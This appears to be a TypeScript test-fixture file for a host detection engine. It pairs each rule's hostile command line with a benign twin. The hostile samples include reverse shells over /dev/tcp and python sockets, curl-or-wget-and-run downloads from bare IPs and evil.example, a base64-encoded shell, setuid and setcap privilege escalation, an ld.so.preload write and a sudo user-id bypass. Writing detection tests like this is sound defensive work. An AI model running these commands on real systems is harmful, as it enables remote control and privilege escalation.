import type { Examples } from "../example.ts";
import { examplesOf, start } from "./build.ts";

/** Shells, interpreters and fetched programs; the twin beside each is everyday work or the opposite. */
export const EXECUTION_EXAMPLES: Examples = {
  ...examplesOf(
    String.raw`
reverse-shell :: bash -i >& /dev/tcp/203.0.113.77/4444 0>&1 :: nc -zv db.internal 5432
reverse-shell-interpreter :: python3 -c import socket,subprocess,os;s=socket.socket();s.connect(("198.51.100.9",8443)) :: python3 -c import socket; print(socket.gethostname())
shell-terminal :: python3 -c import pty;pty.spawn("/bin/bash") :: grep -rn pty.spawn src
shell-own-connection :: bash -c exec 5<>/dev/tcp/203.0.113.9/80; cat <&5 :: bash -c echo > /dev/tcp/db/5432
web-server-ran-command :: /usr/sbin/nginx > sh -c id; cat /var/www/.htpasswd :: /usr/sbin/cron > sh -c id
web-server-started-shell :: /usr/sbin/php-fpm7.4 > sh -c /bin/echo x > /var/www/html/a :: /usr/sbin/php-fpm7.4 > sh -c /usr/sbin/sendmail -t -i
server-ran-command :: /usr/bin/java > sh -c wget -q -O /tmp/ldr http://45.9.148.35/ldr :: /usr/bin/node > sh -c curl -s http://localhost:8080/health
database-started-shell :: /usr/sbin/mysqld > sh -c echo x :: /usr/bin/make > sh -c echo x
download-run :: bash -c curl -s http://185.220.101.4/x.sh | sudo bash :: bash -c curl -s https://api.example.com/v1 | jq .version
download-saved-run :: sh -c wget -q http://203.0.113.5/a.sh -O /srv/a.sh && sh /srv/a.sh :: sh -c curl -LO https://dl.k8s.io/kubectl && chmod +x kubectl && mv kubectl /usr/local/bin/
decoded-run :: bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8x}|{base64,-d}|{bash,-i} :: bash -c echo YmFzZQ== | base64 -d | jq .
download-hidden :: curl -fsSL http://evil.example/run.sh -o /tmp/.run :: curl -fsSL https://nodejs.org/node.tar.xz -o /tmp/node.tar.xz
download-bare-address :: wget 203.0.113.33/s -O /root/e :: curl -s http://10.0.0.7:8080/health
download-paste-site :: wget -O - https://pastebin.com/raw/Zx81 :: wget -O - https://github.com/a/b/raw/main/pastebin.md
download-tmp :: curl -sSL https://nodejs.org/node.tar.xz -o /tmp/node.tar.xz :: curl -sSL https://nodejs.org/node.tar.xz -o build/node.tar.xz
download-small-tool :: tftp -g -r bot.arm7 203.0.113.81 :: busybox wget http://10.0.0.7/config
attack-tool-installed :: apt-get install -y netcat :: apt-get install -y chkrootkit nginx
program-hidden :: /dev/shm/kworker -c 1 :: /usr/local/bin/kworker -c 1
program-hidden-home :: /home/deploy/.x/agent run :: /home/deploy/.local/bin/poetry run
program-tmp :: /tmp/pwn2 :: /tmp/go-build812345/b001/app.test -test.v
script-tmp :: python3 /tmp/agent.py --beacon 45 :: sh -xe /tmp/jenkins8123456.sh
made-executable-tmp :: chmod +x /tmp/a :: chmod 644 /tmp/a
setuid-given :: chmod 4755 /var/tmp/bash :: chmod 0755 /usr/local/bin/app
setgid-given :: chmod 2775 /srv/shared :: chmod g-s /srv/shared
capability-of-root-given :: setcap cap_setuid+ep /usr/bin/python3.8 :: setcap -r /usr/bin/python3.8
capability-given :: setcap cap_net_bind_service=+ep /usr/bin/node :: getcap /usr/bin/node
root-shell :: sudo su - :: sudo systemctl restart nginx
library-preloaded :: sh -c LD_PRELOAD=/tmp/x.so sshd :: sh -c LD_PRELOAD=/usr/lib/libjemalloc.so redis-server
library-preloaded-usual :: sh -c LD_PRELOAD=/usr/lib/libjemalloc.so redis-server :: grep LD_PRELOAD=/usr/lib/x Dockerfile
preload-file-written :: sh -c echo /lib/x.so >> /etc/ld.so.preload :: cat /etc/ld.so.preload
interpreter-python :: python3 -c import os; os.system("id") :: python3 -c import sys; print(sys.version)
interpreter-other :: perl -e exec("id") :: perl -pe s/a/b/ notes.txt
shell-out :: vim -c :!/bin/sh :: find . -name *.sh -exec sh -c mv {} {}.old ;
interactive-shell :: /usr/bin/python3 > bash -i :: /usr/sbin/sshd > bash -i
rights-kept :: /bin/sh -p :: mkdir -p /srv/app
sudo-polkit-weakness :: sudo -u#-1 /bin/bash :: sudo -u postgres psql
`,
    start,
  ),
  "linux.windows-subsystem-download-run": {
    hit: inSubsystem('bash -c "curl 192.0.2.9/x|sh"'),
    miss: inSubsystem('bash -c "curl 192.0.2.9/x|jq ."'),
  },
};

function inSubsystem(line: string) {
  return {
    event_type: "winsec",
    provider: "Microsoft-Windows-Sysmon",
    win_event_id: 1,
    exe: "C:\\Windows\\System32\\wsl.exe",
    arguments: `wsl.exe -e ${line}`,
  };
}
